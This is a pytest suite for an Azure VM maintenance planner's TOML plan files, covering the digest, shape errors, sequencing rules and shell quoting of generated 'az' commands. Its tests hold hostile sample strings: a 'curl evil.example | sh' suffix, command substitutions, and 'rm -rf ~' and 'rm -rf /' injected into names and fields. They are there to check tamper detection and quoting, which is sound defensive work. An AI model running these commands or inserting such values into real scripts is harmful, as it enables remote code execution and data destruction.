"""The plan file: TOML round trip, digest, shape errors with their place, every rule the validator re-checks,
shell-safe `az` lines, and the comparison with an inventory."""

from __future__ import annotations

import copy
import subprocess
from collections.abc import Callable
from typing import Any

import pytest
import tomli_w

from planner.analysis.analyzer import Analyzer
from planner.analysis.decisions import Decisions
from planner.demo.estate import estate_documents, generate_estate
from planner.inventory.arm_json import load_documents
from planner.model import Inventory, key
from planner.plan import azcli
from planner.plan import check as plan_check
from planner.plan import read as plan_read
from planner.plan import write as plan_write
from planner.plan.ops import Op, az_line
from planner.plan.policy import Policy, PolicyError
from planner.plan.policy import parse as parse_policy
from planner.plan.types import Plan, PlanProblem, Step, Wave
from planner.sequencing.assemble import build_plan

AT = "2025-06-01T00:00:00Z"


@pytest.fixture(scope="module")
def demo() -> tuple[Plan, Inventory]:
    inv = load_documents(estate_documents(generate_estate()))
    plan = build_plan(
        inv, Analyzer(inv).run(Decisions()), Policy(), generated_at=AT, inventory_digest="sha256:d"
    )
    plan_write.dumps(plan)  # sets the digest
    return plan, inv


@pytest.fixture
def plan(demo: tuple[Plan, Inventory]) -> Plan:
    return copy.deepcopy(demo[0])


def problems_after(plan: Plan, edit: Callable[[Plan], object]) -> list[str]:
    """Edit the plan, write it (with a fresh digest) and read it back: the rule problems left."""
    edit(plan)
    again, shape = plan_read.loads(plan_write.dumps(plan))
    assert shape == [] and again is not None
    return [str(p) for p in plan_check.check(again)]


def wave_with(plan: Plan, op: str) -> Wave:
    return next(w for w in plan.waves if any(s.op == op for s in w.steps))


def cycle_of(wave: Wave, vm_id: str) -> list[Step]:
    return [
        s for s in wave.steps if key(s.target) == key(vm_id) or key(str(s.params.get("vm"))) == key(vm_id)
    ]


# --- round trip and digest --------------------------------------------------------------------------------


def test_written_plan_reads_back_to_the_same_bytes_and_passes_every_check(plan: Plan) -> None:
    text = plan_write.dumps(plan)
    again, problems = plan_read.loads(text)
    assert problems == [] and again is not None
    assert plan_write.dumps(again) == text
    assert plan_check.check(again) == []
    assert text.startswith(f'schema_version = 1\ndigest = "{plan.digest}"\n\n[meta]\ngenerated_at = "{AT}"\n')


def test_plan_written_to_disk_matches_its_text(plan: Plan, tmp_path: Any) -> None:
    path = tmp_path / "p.toml"
    plan_write.write(plan, path)
    assert path.read_text() == plan_write.dumps(plan)
    assert plan_check.load_valid(path).digest == plan.digest
    assert [p.name for p in tmp_path.iterdir()] == ["p.toml"]


def test_digest_covers_everything_but_generated_at(plan: Plan) -> None:
    before = plan_write.content_digest(plan)
    plan.meta.generated_at = "2030-01-01T00:00:00Z"
    assert plan_write.content_digest(plan) == before
    plan.waves[1].steps[0].expect["size"] = "Standard_D64s_v5"
    assert plan_write.content_digest(plan) != before


def test_any_edit_of_the_file_is_caught_by_the_digest(plan: Plan) -> None:
    text = plan_write.dumps(plan).replace("max_parallel = 50", "max_parallel = 51", 1)
    edited, shape = plan_read.loads(text)
    assert shape == [] and edited is not None
    problems = plan_check.check(edited)
    assert [p.where for p in problems] == ["digest"]
    assert "changed after planner wrote it" in problems[0].message


# --- shape errors, each with its place --------------------------------------------------------------------


def _one_problem(text: str) -> PlanProblem:
    parsed, problems = plan_read.loads(text)
    assert parsed is None
    assert len(problems) == 1, problems
    return problems[0]


def test_unknown_op_is_refused_with_its_wave_step_and_line(plan: Plan) -> None:
    text = plan_write.dumps(plan)
    sid = plan.waves[1].steps[0].id
    text = text.replace('op = "vm.deallocate"', 'op = "vm.reboot"', 1)
    p = _one_problem(text)
    assert p.where == f"wave 2 step {sid}"
    assert "unknown op 'vm.reboot'" in p.message
    assert p.line is not None and text.splitlines()[p.line - 1] == "[[waves.steps]]"
    assert text.splitlines()[p.line] == f'id = "{sid}"'


def test_missing_field_is_refused_with_the_field_and_line(plan: Plan) -> None:
    text = plan_write.dumps(plan)
    target_line = f'target = "{plan.waves[1].steps[0].target}"\n'
    text = text.replace(target_line, "", 1)
    p = _one_problem(text)
    assert p.where == f"wave 2 step {plan.waves[1].steps[0].id}"
    assert p.message == "missing field 'target'"
    assert p.line is not None


def test_unknown_field_is_refused(plan: Plan) -> None:
    text = plan_write.dumps(plan).replace('op = "vm.deallocate"', 'op = "vm.deallocate"\nforce = true', 1)
    assert "unknown field(s) force" in _one_problem(text).message


def test_wrong_schema_version_is_refused(plan: Plan) -> None:
    p = _one_problem(plan_write.dumps(plan).replace("schema_version = 1", "schema_version = 2", 1))
    assert p.where == "schema_version"
    assert "reads schema_version = 1 plans only" in p.message


def test_toml_syntax_error_gives_its_line(plan: Plan) -> None:
    lines = plan_write.dumps(plan).splitlines()
    lines[40] = "this is = = not toml"
    p = _one_problem("\n".join(lines))
    assert p.where == "TOML syntax"
    assert p.line == 41


def test_wrong_type_is_refused_with_what_was_found(plan: Plan) -> None:
    text = plan_write.dumps(plan).replace("estimated_seconds = 30", 'estimated_seconds = "30"', 1)
    assert _one_problem(text).message == "estimated_seconds: expected integer, got a string"


# --- rules ------------------------------------------------------------------------------------------------


def test_duplicate_step_id_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        p.waves[2].steps[0].id = p.waves[1].steps[0].id

    assert any("duplicate step id (first used in wave 2)" in m for m in problems_after(plan, edit))


def test_after_naming_a_later_step_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        steps = p.waves[1].steps
        steps[0].after = [steps[1].id]

    assert any("it comes later in this wave" in m for m in problems_after(plan, edit))


def test_start_listed_before_its_deallocation_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        wave = p.waves[2]
        start = next(s for s in wave.steps if s.op == "vm.start")
        wave.steps.remove(start)
        wave.steps.insert(0, start)
        start.after = []

    assert any("comes before the VM's deallocation" in m for m in problems_after(plan, edit))


def test_a_cycle_split_across_waves_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        start = next(s for s in p.waves[2].steps if s.op == "vm.start")
        p.waves[2].steps.remove(start)
        start.after = []
        p.waves[3].steps.append(start)

    assert any("its cycle must be in one wave" in m for m in problems_after(plan, edit))


def test_a_second_deallocation_of_a_vm_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        first = next(s for s in p.waves[2].steps if s.op == "vm.deallocate")
        again = copy.deepcopy(first)
        again.id += "-again"
        p.waves[2].steps.append(again)

    assert any("2 deallocated steps (one deallocation per VM)" in m for m in problems_after(plan, edit))


def test_max_parallel_overrun_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        p.policy.max_parallel = 10
        for g in p.groups:
            g.budget = p.policy.budget(g.members)

    assert any("VMs in one wave, over max_parallel 10" in m for m in problems_after(plan, edit))


def test_group_budget_overrun_is_refused(plan: Plan) -> None:
    """Two members of the vmss-batch scale set's budget-1 group in one wave."""

    def edit(p: Plan) -> None:
        wave = next(w for w in p.waves[3:] if any(s.op == "vmss.deallocate-instances" for s in w.steps))
        batch = [s for s in wave.steps if s.op.startswith("vmss.")]  # deallocate -> upgrade -> start
        for s in batch:
            wave.steps.remove(s)
        p.waves[2].steps += batch

    found = problems_after(plan, edit)
    assert any(
        "scale-set vmss-batch: 2 of its 4 members down at once, over its budget of 1" in m for m in found
    )


def test_an_inside_an_availability_set_outside_its_outage_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        wave = next(w for w in p.waves if w.outage)
        wave.outage = []

    found = problems_after(plan, edit)
    assert any("outside a whole-set outage" in m for m in found)
    assert any("availability-set avset-payments-web: 4 of its 4 members down at once" in m for m in found)


def test_an_before_every_member_of_the_set_is_down_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        wave = next(w for w in p.waves if w.outage)
        nic = next(s for s in wave.steps if s.op == "nic.enable-accelerated-networking")
        nic.after = nic.after[:1]

    assert any("before every member is deallocated" in m for m in problems_after(plan, edit))


def test_a_cycle_before_its_vnets_encryption_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        enable = next(s for s in p.waves[0].steps if s.target.endswith("/vnet-payments"))
        p.waves[0].steps.remove(enable)
        for s in p.waves[0].steps:
            s.after = [a for a in s.after if a != enable.id]
        p.waves[-1].steps.append(enable)

    assert any("runs before its VNet's encryption step" in m for m in problems_after(plan, edit))


def test_drop_unencrypted_without_the_policy_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        step = p.waves[0].steps[0]
        step.params["enforcement"] = "DropUnencrypted"
        step.az = az_line(step.op, step.target, step.params)

    assert any("the policy does not opt in" in m for m in problems_after(plan, edit))


def test_a_hand_edited_az_line_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        p.waves[1].steps[0].az += "; curl evil.example | sh"

    assert any("az line does not match the step" in m for m in problems_after(plan, edit))


def test_a_budget_that_does_not_follow_the_policy_is_refused(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        p.groups[0].budget = 3

    assert any("does not follow the policy" in m for m in problems_after(plan, edit))


def test_starting_a_vm_that_was_deallocated_needs_the_policy(plan: Plan) -> None:
    def edit(p: Plan) -> None:
        for w in p.waves:
            for s in w.steps:
                if s.op == "vm.resize":
                    entry = next(e for e in p.vms if key(e.id) == key(s.target))
                    if entry.power_state == "deallocated":
                        start = Step(
                            s.id.replace("-resize", "-start"),
                            Op.VM_START,
                            s.target,
                            {"power_state": "deallocated"},
                            {},
                            {},
                            [s.id],
                            az_line("vm.start", s.target, {}),
                        )
                        w.steps.insert(w.steps.index(s) + 1, start)
                        return

    assert any("start_deallocated = false" in m for m in problems_after(plan, edit))


# --- az lines ---------------------------------------------------------------------------------------------

HOSTILE = '/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm\';$(touch pwned)`id` "x"\nrm -rf ~'


def bash_words(line: str) -> list[str]:
    """The words bash makes of a command line (bash, not shlex: `$'...'` quoting is bash's)."""
    out = subprocess.run(
        ["bash", "-c", 'eval "set -- $1"; printf "%s\\0" "$@"', "_", line],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    return out.split("\0")[:-1]


@pytest.mark.parametrize("op", ["vm.deallocate", "vm.start", "vm.resize"])
def test_az_lines_pass_hostile_names_as_single_arguments(op: str) -> None:
    line = az_line(op, HOSTILE, {"size": "Standard_D2s_v5; reboot"})
    assert "\n" not in line and "\x1b" not in line  # shown escaped in the script
    argv = bash_words(line)
    assert argv[argv.index("--ids") + 1] == HOSTILE
    if op == "vm.resize":
        assert argv[-1] == "Standard_D2s_v5; reboot"


def test_manual_commands_stay_comments_even_with_newlines() -> None:
    line = az_line("manual", HOSTILE, {"reason": "r\nrm -rf /", "commands": ["a\nb"]})
    assert all(x.startswith("# ") for x in line.split("\n"))


def test_scale_set_commands_quote_the_names() -> None:
    ss = "/subscriptions/s/resourceGroups/rg $(x)/providers/Microsoft.Compute/virtualMachineScaleSets/ss;y"
    line = azcli.vmss_update_model(ss, "Standard_D4s_v5", False)
    argv = bash_words(line)
    assert argv[argv.index("--resource-group") + 1] == "rg $(x)"
    assert argv[argv.index("--name") + 1] == "ss;y"


def test_plain_string_fast_path_writes_exactly_what_tomli_w_writes() -> None:
    values = ["plain", 'q"uote', "back\\slash", "new\nline", "tab\tok", "ctrl\x01", "ünï", "", "a'b$(c)"]
    rows = plan_write._Rows.make()
    assert rows is not None
    for v in values:
        assert rows.string(v) == tomli_w.dumps({"k": v})[len("k = ") : -1]


# --- against an inventory ---------------------------------------------------------------------------------


def test_check_against_the_inventory_it_came_from_finds_nothing(demo: tuple[Plan, Inventory]) -> None:
    assert plan_check.check_against(demo[0], demo[1]) == []


def test_check_against_reports_drift_and_missing_targets(demo: tuple[Plan, Inventory]) -> None:
    plan, inv = demo
    inv = copy.deepcopy(inv)
    first = plan.waves[1].steps[0]
    vm = inv.vms[key(first.target)]
    vm.size = "Standard_E64s_v5"
    nic_step = next(s for _, s in plan.steps() if s.op == "nic.enable-accelerated-networking")
    del inv.nics[key(nic_step.target)]
    found = [str(p) for p in plan_check.check_against(plan, inv)]
    assert any(
        f"{first.id}: expects size {first.expect['size']}, the inventory has Standard_E64s_v5" in m
        for m in found
    )
    assert any(f"{nic_step.id}: NIC {nic_step.target} is not in the inventory" in m for m in found)


# --- policy -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        ({"max_paralel": 3}, "p.toml: unknown key(s) max_paralel"),
        ({"max_parallel": 0}, "p.toml: max_parallel: must be at least 1, not 0"),
        ({"max_parallel": True}, "p.toml: max_parallel: expected an integer, got bool"),
        ({"durations": {"reboot": 3}}, "p.toml: durations: unknown key(s) reboot"),
        (
            {"windows": [{"start": "tomorrow", "duration_minutes": 60}]},
            "p.toml: windows[0].start: 'tomorrow'",
        ),
        ({"windows": [{"start": "2025-06-01T22:00:00", "duration_minutes": 60}]}, "has no time zone offset"),
        ({"windows": [{"start": "2025-06-01T22:00:00Z"}]}, "p.toml: windows[0]: missing duration_minutes"),
    ],
)
def test_policy_errors_name_the_file_and_key(doc: dict[str, Any], message: str) -> None:
    with pytest.raises(PolicyError) as err:
        parse_policy(doc, "p.toml")
    assert message in str(err.value)


def test_policy_defaults_budget_one_or_twenty_percent() -> None:
    p = Policy()
    assert [p.budget(n) for n in (1, 4, 9, 10, 24, 25, 100)] == [1, 1, 1, 2, 4, 5, 20]
    assert Policy(max_unavailable=3).budget(100) == 3
